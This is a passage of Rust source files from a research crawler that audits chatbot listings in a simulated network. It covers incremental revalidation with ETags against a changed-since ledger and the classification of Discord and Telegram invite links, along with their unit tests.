        assert!(doc.title().unwrap().contains("Top chatbots"));
    }
}
