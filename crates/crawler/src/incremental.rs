//! Conditional-fetch incremental crawling.
//!
//! A re-audit of a mostly-unchanged ecosystem should not pay for a full
//! re-crawl. This module teaches the crawl to remember, per page, the
//! content validator (ETag) the server attached and the parsed result the
//! body produced, and to *revalidate* instead of re-fetch on the next run:
//! an unchanged page costs one bodyless 304 round-trip — no transfer, no
//! parse, no invite validation, no website visit.
//!
//! Correctness never rests on validators alone. The listing site publishes
//! a `changed-since` ledger (`/changed?since=EPOCH`), and any bot the
//! ledger names is **always re-fetched in full** — its cached validators
//! are only probed to *detect* servers that hand out stale 304s (the
//! `stale_validators` fault), never trusted. A bot the ledger says is
//! unchanged is reused after its detail-page validator answers 304: the
//! ledger names every bot whose crawl bytes moved anywhere (detail page,
//! website policy, GitHub view), so one round-trip per unchanged bot is
//! exactly the price floor. Either way the merged crawl output is
//! byte-identical to a cold crawl of the same world; the cache can only
//! change what the crawl *costs*.
//!
//! Persistence is the caller's business: the crawl sees a [`ValidatorStore`]
//! — a string-keyed byte map — and `crates/store` provides the journaled,
//! crash-safe implementation (`ValidatorCache`) that lives next to the
//! artifact pack.
//!
//! Cost accounting lands on `crawl.*` counters:
//!
//! * `crawl.validated` — 304 round-trips served from validators;
//! * `crawl.fetched_full` — full-body page fetches;
//! * `crawl.validator_hits` — logical pages reused from the cache (one per
//!   list page, one per unchanged bot);
//! * `crawl.validator_stale` — ledger-contradicting 304s (a server lied);
//! * `crawl.bytes_saved` — body bytes the 304s avoided transferring.

use crate::crawl::{
    crawl_detail_validated, detail_url, discover_listing_capturing, CrawlConfig, CrawledBot,
    DetailFetch, DetailOutcome, DetailUnit, ListingIndex, ScopedCounter, SessionOverhead,
};
use crate::session::ScrapeSession;
use netsim::client::{ClientConfig, HttpClient};
use netsim::http::{Status, Url};
use netsim::Network;
use obs::{Obs, Span};
use serde::{Deserialize, Serialize};
use std::collections::{BTreeMap, BTreeSet};
use std::sync::Mutex;

/// Where the crawl keeps validators between runs. Implementations must be
/// shareable across crawl workers; `crates/store`'s `ValidatorCache` is the
/// durable one. The store is *performance state*: losing or corrupting an
/// entry costs an extra full fetch, never a wrong crawl.
pub trait ValidatorStore: Send + Sync {
    /// The cached bytes for `key`, if any.
    fn get(&self, key: &str) -> Option<Vec<u8>>;
    /// Record (or replace) an entry. Failures may be swallowed.
    fn put(&self, key: &str, value: &[u8]);
}

/// An in-memory [`ValidatorStore`] for tests and single-process warm runs.
#[derive(Default)]
pub struct MemValidatorStore {
    map: Mutex<BTreeMap<String, Vec<u8>>>,
}

impl MemValidatorStore {
    /// An empty store.
    pub fn new() -> MemValidatorStore {
        MemValidatorStore::default()
    }

    /// Number of entries held.
    pub fn len(&self) -> usize {
        self.map.lock().expect("store lock").len()
    }

    /// Whether the store is empty.
    pub fn is_empty(&self) -> bool {
        self.len() == 0
    }
}

impl ValidatorStore for MemValidatorStore {
    fn get(&self, key: &str) -> Option<Vec<u8>> {
        self.map.lock().expect("store lock").get(key).cloned()
    }

    fn put(&self, key: &str, value: &[u8]) {
        self.map
            .lock()
            .expect("store lock")
            .insert(key.to_string(), value.to_vec());
    }
}

/// Store key of the listing-traversal entry.
pub const LISTING_KEY: &str = "listing";

/// Store key of one bot's detail entry.
pub fn detail_key(href: &str) -> String {
    format!("detail:{href}")
}

/// Store key of one bot's cached crawl result (raw `CrawledBot` JSON).
/// Kept separate from [`detail_key`]'s validator record so the warm path
/// parses a tiny metadata object per bot and touches the body only after
/// the validator answers 304 — and so callers can hash the exact bytes
/// instead of re-serializing the parsed struct.
pub fn detail_body_key(href: &str) -> String {
    format!("detailbody:{href}")
}

/// The cached listing traversal: per-page validators plus the merged index
/// they covered. Reused only when *every* page revalidates.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct CachedListing {
    /// Per-page ETags, in page order (page 0 first).
    pub etags: Vec<String>,
    /// Bot detail hrefs, in listing order.
    pub hrefs: Vec<String>,
    /// List pages the traversal counted.
    pub pages: usize,
    /// Body bytes the traversal transferred (what a revalidation saves).
    pub bytes: u64,
}

/// Every validator one bot's cached crawl result depends on. The result
/// itself lives under [`detail_body_key`] as raw JSON; this record stays
/// small so the warm path's per-bot bookkeeping costs microseconds.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct CachedDetail {
    /// The detail page's validator.
    pub etag_detail: String,
    /// `(url, etag)` of the website homepage, when the crawl fetched it.
    pub home_validator: Option<(String, String)>,
    /// `(url, etag)` of the policy page, when the crawl fetched it.
    pub policy_validator: Option<(String, String)>,
    /// Body bytes the full crawl transferred (what a revalidation saves).
    pub bytes: u64,
}

/// Ask the listing site which bots' crawl bytes changed after `since`,
/// walking the paginated `/changed` feed. Returns `None` when the feed is
/// unreachable or malformed — the caller must then treat *everything* as
/// changed (i.e. crawl cold), because reuse without the ledger's blessing
/// could trust a validator the site no longer honours.
pub fn fetch_changed_hrefs(
    net: &Network,
    host: &str,
    since: u32,
    obs: &Obs,
) -> Option<BTreeSet<String>> {
    let mut client = HttpClient::new(
        net.clone(),
        ClientConfig::crawler("measurement-crawler/1.0 (change-probe)"),
    );
    let mut out = BTreeSet::new();
    let mut page = 0usize;
    loop {
        let url = Url::https(host, "/changed")
            .with_query("since", &since.to_string())
            .with_query("page", &page.to_string());
        let resp = client.get(url).ok()?;
        if !resp.status.is_success() {
            return None;
        }
        obs.counter("crawl.changed_pages").incr();
        for line in resp.text().lines() {
            if !line.is_empty() {
                out.insert(line.to_string());
            }
        }
        let total: usize = resp
            .header("x-total-pages")
            .and_then(|t| t.parse().ok())
            .unwrap_or(1);
        page += 1;
        if page >= total {
            return Some(out);
        }
    }
}

/// The listing traversal, warm path first: when the store holds a cached
/// traversal and every page answers 304 against its validator, the cached
/// index is reused outright. Any non-match falls back to the cold
/// traversal, which re-captures validators into the store.
pub fn discover_listing_validated(
    net: &Network,
    config: &CrawlConfig,
    store: &dyn ValidatorStore,
    obs: &Obs,
    parent: &Span,
) -> ListingIndex {
    if let Some(cached) = store
        .get(LISTING_KEY)
        .and_then(|bytes| serde_json::from_slice::<CachedListing>(&bytes).ok())
    {
        if let Some(index) = revalidate_listing(net, config, &cached, obs, parent) {
            return index;
        }
    }
    let (index, capture) = discover_listing_capturing(net, config, obs, parent);
    if let Some(capture) = capture {
        if let Ok(bytes) = serde_json::to_vec(&capture) {
            store.put(LISTING_KEY, &bytes);
        }
    }
    index
}

fn revalidate_listing(
    net: &Network,
    config: &CrawlConfig,
    cached: &CachedListing,
    obs: &Obs,
    parent: &Span,
) -> Option<ListingIndex> {
    // A traversal cached under a wider page budget cannot be reused
    // wholesale (the cache is fingerprint-scoped, so this is belt and
    // braces).
    if config.max_pages.is_some_and(|m| cached.etags.len() > m) {
        return None;
    }
    let span = parent.child("listing_revalidate");
    let mut session = ScrapeSession::for_worker(net.clone(), config.seed, 0, config.polite);
    for (page, etag) in cached.etags.iter().enumerate() {
        let url = Url::https(&config.list_host, "/list").with_query("page", &page.to_string());
        match session.fetch_conditional(url, etag) {
            Ok(resp) if resp.status == Status::NotModified => {}
            _ => {
                span.record("miss_at_page", page as u64);
                return None;
            }
        }
    }
    span.record("pages", cached.pages as u64);
    ScopedCounter::new(obs, config, "validated").add(cached.etags.len() as u64);
    ScopedCounter::new(obs, config, "validator_hits").add(cached.pages as u64);
    ScopedCounter::new(obs, config, "bytes_saved").add(cached.bytes);
    ScopedCounter::new(obs, config, "captchas_solved").add(session.captchas_solved);
    ScopedCounter::new(obs, config, "email_verifications").add(session.email_verifications);
    Some(ListingIndex {
        hrefs: cached.hrefs.clone(),
        pages: cached.pages,
        overhead: SessionOverhead::of(&session),
    })
}

/// [`crate::crawl::crawl_detail_unit_traced`] with the validator cache and
/// change ledger attached. Per href:
///
/// * **cached, not in `changed`** — one conditional round-trip against the
///   detail validator; a 304 reuses the cached bot, anything else falls
///   back to a full fetch;
/// * **cached, in `changed`** — the ledger overrules the validators: probe
///   conditionally (a 304 here means the server's validators are stale and
///   is counted, never trusted), then fetch in full;
/// * **uncached** — full fetch, populating the store.
///
/// The first return is element-for-element identical to the cold unit
/// crawl of the same world. The second carries, per successful bot, the
/// exact `serde_json::to_vec` encoding of that bot — cached bytes for
/// reused entries, the freshly written cache body for fetched ones — so
/// callers can content-address downstream work by hashing bytes that
/// already exist instead of re-serializing every bot.
#[allow(clippy::too_many_arguments)]
pub fn crawl_detail_unit_validated(
    net: &Network,
    config: &CrawlConfig,
    hrefs: &[String],
    unit: u64,
    store: &dyn ValidatorStore,
    changed: &BTreeSet<String>,
    obs: &Obs,
    parent: &Span,
) -> (DetailUnit, Vec<Option<Vec<u8>>>) {
    let span = parent.child_keyed("unit", unit);
    let mut session = ScrapeSession::for_worker(
        net.clone(),
        netsim::splitmix(config.seed, 0x1000 + unit),
        1 + unit as usize,
        config.polite,
    );
    let validated = ScopedCounter::new(obs, config, "validated");
    let fetched_full = ScopedCounter::new(obs, config, "fetched_full");
    let hits = ScopedCounter::new(obs, config, "validator_hits");
    let stale = ScopedCounter::new(obs, config, "validator_stale");
    let bytes_saved = ScopedCounter::new(obs, config, "bytes_saved");

    let mut results: Vec<Option<CrawledBot>> = Vec::with_capacity(hrefs.len());
    let mut raw: Vec<Option<Vec<u8>>> = Vec::with_capacity(hrefs.len());
    for href in hrefs {
        let key = detail_key(href);
        let cached: Option<CachedDetail> = store
            .get(&key)
            .and_then(|bytes| serde_json::from_slice(&bytes).ok());
        let (result, body) = match cached {
            Some(entry) if !changed.contains(href.as_str()) => {
                let reused = revalidate_detail(&mut session, config, href, &entry, &validated)
                    .then(|| store.get(&detail_body_key(href)))
                    .flatten()
                    .and_then(|body| {
                        let bot: CrawledBot = serde_json::from_slice(&body).ok()?;
                        Some((bot, body))
                    });
                match reused {
                    Some((bot, body)) => {
                        hits.incr();
                        bytes_saved.add(entry.bytes);
                        (Some(bot), Some(body))
                    }
                    None => fetch_and_cache(&mut session, href, config, store, &fetched_full),
                }
            }
            Some(entry) => {
                // The ledger says this bot's bytes changed: a validator
                // match would be a lie, so the conditional fetch is a stale-
                // validator detector and the real bytes always come from a
                // full fetch.
                match crawl_detail_validated(&mut session, href, config, Some(&entry.etag_detail)) {
                    DetailOutcome::NotModified => {
                        validated.incr();
                        stale.incr();
                        fetch_and_cache(&mut session, href, config, store, &fetched_full)
                    }
                    DetailOutcome::Fetched(fetch) => {
                        fetched_full.add(fetch.fetches);
                        let body = cache_detail(store, href, &fetch);
                        (Some(fetch.bot), body)
                    }
                    DetailOutcome::Failed => (None, None),
                }
            }
            None => fetch_and_cache(&mut session, href, config, store, &fetched_full),
        };
        results.push(result);
        raw.push(body);
    }

    let ok = results.iter().filter(|r| r.is_some()).count() as u64;
    span.record("ok", ok);
    span.record("failed", results.len() as u64 - ok);
    ScopedCounter::new(obs, config, "bots").add(ok);
    ScopedCounter::new(obs, config, "detail_failures").add(results.len() as u64 - ok);
    let overhead = SessionOverhead::of(&session);
    ScopedCounter::new(obs, config, "captchas_solved").add(overhead.captchas_solved);
    ScopedCounter::new(obs, config, "email_verifications").add(overhead.email_verifications);
    (DetailUnit { results, overhead }, raw)
}

/// Revalidate a cached bot the change ledger left alone: one conditional
/// round-trip against the detail page's validator. The ledger names every
/// bot whose crawl bytes moved — detail page, website policy, or GitHub
/// view — so for an unlisted bot the subresource validators recorded in
/// [`CachedDetail`] are already vouched for; probing them again would turn
/// the one cheap 304 the warm path is built around into three. A detail
/// mismatch (cache older than the ledger's horizon, or a server that
/// stopped honouring validators) still falls back to the full fetch.
fn revalidate_detail(
    session: &mut ScrapeSession,
    config: &CrawlConfig,
    href: &str,
    entry: &CachedDetail,
    validated: &ScopedCounter,
) -> bool {
    let Some(url) = detail_url(&config.list_host, href) else {
        return false;
    };
    match session.fetch_conditional(url, &entry.etag_detail) {
        Ok(resp) if resp.status == Status::NotModified => {
            validated.incr();
            true
        }
        _ => false,
    }
}

fn fetch_and_cache(
    session: &mut ScrapeSession,
    href: &str,
    config: &CrawlConfig,
    store: &dyn ValidatorStore,
    fetched_full: &ScopedCounter,
) -> (Option<CrawledBot>, Option<Vec<u8>>) {
    match crawl_detail_validated(session, href, config, None) {
        DetailOutcome::Fetched(fetch) => {
            fetched_full.add(fetch.fetches);
            let body = cache_detail(store, href, &fetch);
            (Some(fetch.bot), body)
        }
        _ => (None, None),
    }
}

/// Record a freshly fetched bot: validator metadata under [`detail_key`],
/// the serialized crawl result under [`detail_body_key`]. Returns the body
/// bytes either way — they are exactly `serde_json::to_vec(&fetch.bot)`,
/// which callers hash for content addressing without re-serializing.
fn cache_detail(store: &dyn ValidatorStore, href: &str, fetch: &DetailFetch) -> Option<Vec<u8>> {
    let body = serde_json::to_vec(&fetch.bot).ok()?;
    // No validator on the detail page → nothing to revalidate against
    // later; leave the entry out so the bot always crawls cold.
    if let Some(etag_detail) = fetch.etag_detail.clone() {
        let entry = CachedDetail {
            etag_detail,
            home_validator: fetch.home_validator.clone(),
            policy_validator: fetch.policy_validator.clone(),
            bytes: fetch.bytes,
        };
        if let Ok(bytes) = serde_json::to_vec(&entry) {
            store.put(&detail_key(href), &bytes);
            store.put(&detail_body_key(href), &body);
        }
    }
    Some(body)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::crawl::{crawl_detail_unit_traced, discover_listing_traced};
    use crate::solver::CaptchaSolverService;
    use botlist::website::{BotWebsite, PolicyHosting};
    use botlist::{BotListSite, BotListing, SiteConfig, LIST_HOST};
    use netsim::clock::VirtualClock;
    use rand::rngs::StdRng;
    use rand::SeedableRng;

    fn listings(n: u64, policy_seed: u64, net: &Network) -> Vec<BotListing> {
        let mut rng = StdRng::seed_from_u64(policy_seed);
        (0..n)
            .map(|i| {
                let website = if i % 2 == 0 {
                    let host = format!("ibot{i}.site.sim");
                    let hosting = if i % 4 == 0 {
                        PolicyHosting::Linked(policy::corpus::complete_policy(
                            &mut rng,
                            &format!("IBot{i}"),
                            true,
                        ))
                    } else {
                        PolicyHosting::None
                    };
                    BotWebsite::new(&format!("IBot{i}"), hosting).mount(net, &host);
                    Some(format!("https://{host}/"))
                } else {
                    None
                };
                BotListing {
                    id: i + 1,
                    name: format!("IBot{i}"),
                    tags: vec!["fun".into()],
                    description: format!("Incremental bot {i}"),
                    invite_link: "totally-broken".to_string(),
                    guild_count: 10 * i,
                    vote_count: 500 - i,
                    website,
                    github: None,
                    developers: vec![format!("dev{}", i % 3)],
                    commands: vec![format!("!cmd{i}")],
                }
            })
            .collect()
    }

    fn world(n: u64, policy_seed: u64) -> Network {
        let clock = VirtualClock::new();
        let net = Network::with_clock(99, clock);
        CaptchaSolverService::mount(&net);
        let listings = listings(n, policy_seed, &net);
        BotListSite::new(
            listings,
            SiteConfig {
                page_size: 4,
                captcha_every: None,
                rate_limit: None,
                email_wall_after_page: None,
                ..SiteConfig::open()
            },
        )
        .mount(&net);
        net
    }

    fn config() -> CrawlConfig {
        CrawlConfig {
            validate_invites: false,
            ..CrawlConfig::default()
        }
    }

    fn shape(unit: &DetailUnit) -> Vec<Option<(u64, String, bool, bool)>> {
        unit.results
            .iter()
            .map(|r| {
                r.as_ref().map(|b| {
                    (
                        b.scraped.id,
                        b.scraped.name.clone(),
                        b.website_reachable,
                        b.policy.is_some(),
                    )
                })
            })
            .collect()
    }

    #[test]
    fn warm_crawl_reuses_everything_when_nothing_changed() {
        let net = world(8, 3);
        let store = MemValidatorStore::new();
        let obs = Obs::disabled();
        let span = Span::disabled();
        let cfg = config();

        let cold_index = discover_listing_validated(&net, &cfg, &store, &obs, &span);
        let cold_unit = crawl_detail_unit_validated(
            &net,
            &cfg,
            &cold_index.hrefs,
            0,
            &store,
            &BTreeSet::new(),
            &obs,
            &span,
        )
        .0;
        assert_eq!(
            obs.counter_value("crawl.validator_hits"),
            0,
            "cold run reuses nothing"
        );
        assert!(store.len() > 1, "listing + details cached");

        let warm_obs = Obs::disabled();
        let warm_index = discover_listing_validated(&net, &cfg, &store, &warm_obs, &span);
        assert_eq!(warm_index.hrefs, cold_index.hrefs);
        assert_eq!(warm_index.pages, cold_index.pages);
        let warm_unit = crawl_detail_unit_validated(
            &net,
            &cfg,
            &warm_index.hrefs,
            0,
            &store,
            &BTreeSet::new(),
            &warm_obs,
            &span,
        )
        .0;
        assert_eq!(shape(&warm_unit), shape(&cold_unit));
        // 2 list pages + 8 bots, all reused.
        assert_eq!(warm_obs.counter_value("crawl.validator_hits"), 2 + 8);
        assert_eq!(warm_obs.counter_value("crawl.fetched_full"), 0);
        assert!(warm_obs.counter_value("crawl.bytes_saved") > 0);
        assert_eq!(warm_obs.counter_value("crawl.validator_stale"), 0);
    }

    #[test]
    fn changed_bots_are_refetched_in_full() {
        let net = world(8, 3);
        let store = MemValidatorStore::new();
        let obs = Obs::disabled();
        let span = Span::disabled();
        let cfg = config();
        let index = discover_listing_validated(&net, &cfg, &store, &obs, &span);
        crawl_detail_unit_validated(
            &net,
            &cfg,
            &index.hrefs,
            0,
            &store,
            &BTreeSet::new(),
            &obs,
            &span,
        );

        let changed: BTreeSet<String> = ["/bot/3".to_string(), "/bot/5".to_string()].into();
        let warm_obs = Obs::disabled();
        let warm = crawl_detail_unit_validated(
            &net,
            &cfg,
            &index.hrefs,
            0,
            &store,
            &changed,
            &warm_obs,
            &span,
        )
        .0;
        assert_eq!(warm.results.iter().filter(|r| r.is_some()).count(), 8);
        assert_eq!(warm_obs.counter_value("crawl.validator_hits"), 8 - 2);
        assert!(warm_obs.counter_value("crawl.fetched_full") >= 2);
        // Honest validators + unchanged content → the probes 304 and are
        // counted stale (the ledger said changed, the validator disagreed).
        assert_eq!(warm_obs.counter_value("crawl.validator_stale"), 2);
    }

    #[test]
    fn validated_paths_match_plain_paths_bot_for_bot() {
        let cfg = config();
        let span = Span::disabled();
        let obs = Obs::disabled();

        let net_a = world(10, 5);
        let plain_index = discover_listing_traced(&net_a, &cfg, &obs, &span);
        let plain_unit = crawl_detail_unit_traced(&net_a, &cfg, &plain_index.hrefs, 0, &obs, &span);

        let net_b = world(10, 5);
        let store = MemValidatorStore::new();
        let cold_index = discover_listing_validated(&net_b, &cfg, &store, &obs, &span);
        let cold_unit = crawl_detail_unit_validated(
            &net_b,
            &cfg,
            &cold_index.hrefs,
            0,
            &store,
            &BTreeSet::new(),
            &obs,
            &span,
        )
        .0;
        assert_eq!(plain_index.hrefs, cold_index.hrefs);
        assert_eq!(plain_index.pages, cold_index.pages);
        assert_eq!(shape(&plain_unit), shape(&cold_unit));

        // And the warm pass over the same world still matches.
        let warm_unit = crawl_detail_unit_validated(
            &net_b,
            &cfg,
            &cold_index.hrefs,
            0,
            &store,
            &BTreeSet::new(),
            &obs,
            &span,
        )
        .0;
        assert_eq!(shape(&plain_unit), shape(&warm_unit));
    }

    #[test]
    fn changed_feed_pagination_round_trips() {
        // Install a ledger: epoch 1 changed bots 2 and 4, epoch 2 changed 1.
        let site_log: BTreeMap<u32, Vec<u64>> =
            [(1u32, vec![2, 4]), (2u32, vec![1])].into_iter().collect();
        let clock = VirtualClock::new();
        let net2 = Network::with_clock(7, clock);
        let listings = listings(4, 1, &net2);
        let site = BotListSite::new(
            listings,
            SiteConfig {
                page_size: 2,
                captcha_every: None,
                rate_limit: None,
                email_wall_after_page: None,
                ..SiteConfig::open()
            },
        );
        site.set_change_log(2, site_log);
        site.mount(&net2);

        let obs = Obs::disabled();
        let all = fetch_changed_hrefs(&net2, LIST_HOST, 0, &obs).unwrap();
        assert_eq!(
            all,
            ["/bot/1", "/bot/2", "/bot/4"]
                .into_iter()
                .map(String::from)
                .collect()
        );
        let since_1 = fetch_changed_hrefs(&net2, LIST_HOST, 1, &obs).unwrap();
        assert_eq!(since_1, ["/bot/1".to_string()].into());
        let since_2 = fetch_changed_hrefs(&net2, LIST_HOST, 2, &obs).unwrap();
        assert!(since_2.is_empty());
    }

    #[test]
    fn stale_validator_fault_is_detected_not_trusted() {
        let build = |stale: bool| {
            let clock = VirtualClock::new();
            let net = Network::with_clock(99, clock);
            CaptchaSolverService::mount(&net);
            let listings = listings(6, 9, &net);
            BotListSite::new(
                listings,
                SiteConfig {
                    page_size: 4,
                    captcha_every: None,
                    rate_limit: None,
                    email_wall_after_page: None,
                    stale_validators: stale,
                    ..SiteConfig::open()
                },
            )
            .mount(&net);
            net
        };
        let cfg = config();
        let span = Span::disabled();
        let obs = Obs::disabled();

        let net = build(true);
        let store = MemValidatorStore::new();
        let index = discover_listing_validated(&net, &cfg, &store, &obs, &span);
        crawl_detail_unit_validated(
            &net,
            &cfg,
            &index.hrefs,
            0,
            &store,
            &BTreeSet::new(),
            &obs,
            &span,
        );

        // Every bot is declared changed; the faulty site 304s the probes
        // anyway. The crawl must refuse the lie: full refetches, stale
        // count, and output identical to a cold crawl.
        let changed: BTreeSet<String> = index.hrefs.iter().cloned().collect();
        let warm_obs = Obs::disabled();
        let warm = crawl_detail_unit_validated(
            &net,
            &cfg,
            &index.hrefs,
            0,
            &store,
            &changed,
            &warm_obs,
            &span,
        )
        .0;
        assert_eq!(warm_obs.counter_value("crawl.validator_stale"), 6);
        assert_eq!(warm_obs.counter_value("crawl.validator_hits"), 0);

        let net_cold = build(false);
        let cold_index = discover_listing_traced(&net_cold, &cfg, &obs, &span);
        let cold = crawl_detail_unit_traced(&net_cold, &cfg, &cold_index.hrefs, 0, &obs, &span);
        assert_eq!(shape(&warm), shape(&cold));
    }
}
