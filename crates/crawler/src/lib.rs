//! # crawler — the data-collection stage (§3)
//!
//! "Our data collection process traverses listings of chatbots and extracts
//! attributes such as the permissions they request, sample commands, their
//! privacy policy, and the link to their source code repository."
//!
//! The crawler drives the `botlist` site through `htmlsim` locators — the
//! same arms-length, selector-based scraping Selenium gave the paper — and
//! copes with the full anti-scraping gauntlet:
//!
//! * politeness rate limiting and backoff (client-side);
//! * captcha interstitials, solved through a paid 2Captcha-style service
//!   ([`solver`]);
//! * email-verification walls;
//! * varying page structures (three layout variants, handled by trying
//!   multiple locators and reacting to `NoSuchElement`);
//! * invite links that are malformed, dead, removed, or redirect so slowly
//!   they time out ([`invite`]).
//!
//! [`crawl::crawl_listing`] runs the whole stage and yields one
//! [`crawl::CrawledBot`] per listing, the input to the traceability and
//! code-analysis stages. [`incremental`] adds the conditional-fetch warm
//! path: validators cached in a [`incremental::ValidatorStore`] plus the
//! site's `changed-since` ledger turn an unchanged page into one cheap
//! 304 round-trip on re-audit.

#![warn(missing_docs)]
#![forbid(unsafe_code)]

pub mod crawl;
pub mod extract;
pub mod incremental;
pub mod invite;
pub mod session;
pub mod solver;

pub use crawl::{
    crawl_detail_unit, crawl_detail_unit_traced, crawl_listing, crawl_listing_traced,
    discover_listing, discover_listing_traced, CrawlConfig, CrawlStats, CrawledBot, DetailUnit,
    ListingIndex, SessionOverhead,
};
pub use extract::{extract_bot_detail, extract_bot_links, ScrapedBot};
pub use incremental::{
    crawl_detail_unit_validated, detail_key, discover_listing_validated, fetch_changed_hrefs,
    CachedDetail, CachedListing, MemValidatorStore, ValidatorStore, LISTING_KEY,
};
pub use invite::{validate_invite, InviteStatus};
pub use session::ScrapeSession;
pub use solver::{CaptchaSolverClient, CaptchaSolverService, SOLVER_HOST};
