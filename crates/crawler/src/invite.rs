//! Invite-link validation.
//!
//! §4.2: "74% (15,525) of the chatbots requested valid permissions on the
//! installation page; the remaining 26% (5,390) have invalid permissions
//! due to invalid invite links, have been removed, or timed out due to slow
//! redirect links." This module reproduces that classification: follow the
//! scraped link (it may bounce through a redirector), and inspect where it
//! lands.

use discord_sim::oauth::{InviteUrl, OAUTH_HOST};
use discord_sim::Permissions;
use netsim::http::{Status, Url};
use netsim::{HttpClient, NetError};
use platform::{TgRights, PRIVACY_OFF_NAME};
use serde::{Deserialize, Serialize};

/// The outcome of validating one invite link.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub enum InviteStatus {
    /// The link reaches a live installation page; permissions decoded.
    Valid {
        /// The permission bitfield the install page requests.
        permissions: Permissions,
        /// Requested scope wire-names.
        scopes: Vec<String>,
    },
    /// The link reaches a live Telegram deep-link page; admin rights and
    /// privacy mode decoded from the gate's echo headers.
    ValidTelegram {
        /// The admin rights the deep link requests on install.
        rights: TgRights,
        /// Whether the bot runs with group privacy mode on. Off means the
        /// bot will receive every group message — the coarse Telegram
        /// analogue of `READ_MESSAGE_HISTORY`.
        privacy_mode: bool,
    },
    /// The URL cannot be parsed or is not an OAuth authorize link.
    MalformedLink,
    /// The bot was removed from the platform (HTTP 410 on the install page).
    Removed,
    /// The link never resolved (dead redirector, NXDOMAIN, refused).
    DeadLink,
    /// The link timed out (the "slow redirect links" bucket).
    TimedOut,
}

impl InviteStatus {
    /// The paper's headline split: does this bot count as having "valid
    /// permissions on the installation page"?
    pub fn is_valid(&self) -> bool {
        matches!(
            self,
            InviteStatus::Valid { .. } | InviteStatus::ValidTelegram { .. }
        )
    }

    /// Canonical names of the permissions requested on the install page;
    /// empty for every non-valid outcome. Telegram links contribute their
    /// admin-right names plus [`PRIVACY_OFF_NAME`] when privacy mode is off,
    /// so the traceability classifier sees the full requested grant on
    /// either platform.
    pub fn permission_names(&self) -> Vec<&'static str> {
        match self {
            InviteStatus::Valid { permissions, .. } => permissions.names(),
            InviteStatus::ValidTelegram {
                rights,
                privacy_mode,
            } => {
                let mut names = rights.names();
                if !privacy_mode {
                    names.push(PRIVACY_OFF_NAME);
                }
                names
            }
            _ => Vec::new(),
        }
    }
}

/// Validate one scraped invite link.
pub fn validate_invite(client: &mut HttpClient, raw_link: &str) -> InviteStatus {
    let Ok(url) = Url::parse(raw_link) else {
        return InviteStatus::MalformedLink;
    };

    // Follow the link (redirectors included) to wherever it lands.
    match client.get(url) {
        Ok(resp) => match resp.status {
            Status::Ok => {
                // A Telegram deep-link gate echoes the requested admin
                // rights directly; no OAuth URL to decode.
                if let Some(field) = resp.header("x-tg-rights") {
                    return match TgRights::from_deeplink_field(field) {
                        Some(rights) => InviteStatus::ValidTelegram {
                            rights,
                            privacy_mode: resp.header("x-tg-privacy") != Some("off"),
                        },
                        None => InviteStatus::MalformedLink,
                    };
                }
                // Landed on a live consent page. The install page echoes its
                // canonical OAuth URL, which covers links that arrived via a
                // redirector; a direct OAuth link is authoritative by itself.
                let oauth_url = resp
                    .header("x-oauth-echo")
                    .and_then(|e| Url::parse(e).ok())
                    .or_else(|| Url::parse(raw_link).ok().filter(|u| u.host == OAUTH_HOST));
                match oauth_url.and_then(|u| InviteUrl::parse(&u).ok()) {
                    Some(invite) => InviteStatus::Valid {
                        permissions: invite.permissions,
                        scopes: invite
                            .scopes
                            .iter()
                            .map(|s| s.wire_name().to_string())
                            .collect(),
                    },
                    None => InviteStatus::MalformedLink,
                }
            }
            Status::Gone => InviteStatus::Removed,
            Status::BadRequest => InviteStatus::MalformedLink,
            _ => InviteStatus::DeadLink,
        },
        Err(NetError::Timeout { .. }) => InviteStatus::TimedOut,
        Err(NetError::RetriesExhausted { last, .. }) if last.contains("timed out") => {
            InviteStatus::TimedOut
        }
        Err(NetError::TooManyRedirects { .. }) => InviteStatus::DeadLink,
        Err(_) => InviteStatus::DeadLink,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use discord_sim::platform::Platform;
    use discord_sim::webgate::OAuthWebGate;
    use discord_sim::GuildVisibility;
    use netsim::client::ClientConfig;
    use netsim::clock::VirtualClock;
    use netsim::fault::FaultPlan;
    use netsim::http::{Request, Response};
    use netsim::latency::LatencyModel;
    use netsim::{Network, ServiceCtx};

    fn setup() -> (Network, Platform, u64) {
        let clock = VirtualClock::new();
        let net = Network::with_clock(11, clock.clone());
        let platform = Platform::new(clock);
        let owner = platform.register_user("dev", "d@x.y");
        platform
            .create_guild(owner, "g", GuildVisibility::Public)
            .unwrap();
        let app = platform.register_bot_application(owner, "LiveBot").unwrap();
        OAuthWebGate::new(platform.clone()).mount(&net);
        (net, platform, app.client_id)
    }

    fn client(net: &Network) -> HttpClient {
        HttpClient::new(
            net.clone(),
            ClientConfig {
                timeout: netsim::SimDuration::from_secs(5),
                ..ClientConfig::impolite("validator")
            },
        )
    }

    #[test]
    fn valid_link_decodes_permissions() {
        let (net, _p, cid) = setup();
        let mut c = client(&net);
        let link = InviteUrl::bot(cid, Permissions::ADMINISTRATOR | Permissions::SPEAK)
            .to_url()
            .to_string();
        let status = validate_invite(&mut c, &link);
        match status {
            InviteStatus::Valid {
                permissions,
                scopes,
            } => {
                assert!(permissions.contains(Permissions::ADMINISTRATOR));
                assert!(permissions.contains(Permissions::SPEAK));
                assert_eq!(scopes, vec!["bot"]);
            }
            other => panic!("expected valid, got {other:?}"),
        }
    }

    #[test]
    fn removed_bot_detected() {
        let (net, _p, _cid) = setup();
        let mut c = client(&net);
        let link = InviteUrl::bot(424242, Permissions::NONE)
            .to_url()
            .to_string();
        assert_eq!(validate_invite(&mut c, &link), InviteStatus::Removed);
    }

    #[test]
    fn malformed_links_detected() {
        let (net, _p, cid) = setup();
        let mut c = client(&net);
        assert_eq!(
            validate_invite(&mut c, "not a url at all"),
            InviteStatus::MalformedLink
        );
        // Parseable URL but missing the bot scope.
        let link = format!("https://discord.sim/oauth2/authorize?client_id={cid}&scope=identify");
        assert_eq!(validate_invite(&mut c, &link), InviteStatus::MalformedLink);
        // Garbage permissions field.
        let link = format!(
            "https://discord.sim/oauth2/authorize?client_id={cid}&scope=bot&permissions=lots"
        );
        assert_eq!(validate_invite(&mut c, &link), InviteStatus::MalformedLink);
    }

    #[test]
    fn dead_host_detected() {
        let (net, _p, _cid) = setup();
        let mut c = client(&net);
        assert_eq!(
            validate_invite(&mut c, "https://gone.redirector.sim/inv/55"),
            InviteStatus::DeadLink
        );
    }

    #[test]
